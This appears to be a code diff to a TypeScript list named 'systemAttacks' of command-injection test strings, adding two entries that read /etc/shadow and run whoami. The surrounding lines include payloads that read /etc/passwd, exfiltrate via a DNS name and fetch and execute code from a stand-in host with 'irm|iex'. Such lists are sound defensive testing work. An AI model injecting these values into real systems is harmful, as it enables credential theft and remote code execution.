@@ -12,6 +12,8 @@ export const systemAttacks: Readonly<Record<string, readonly string[]>> = {
     "k;mapfile k</etc/passwd",
     "k;exec 3< /etc/passwd",
     ";coproc whoami",
+    ";\\cat /etc/shadow",
+    ";\\whoami",
     "`whoami`.q7.example",
     "k;irm q7.example|iex",
     ";cat /etc/pa${k}sswd",
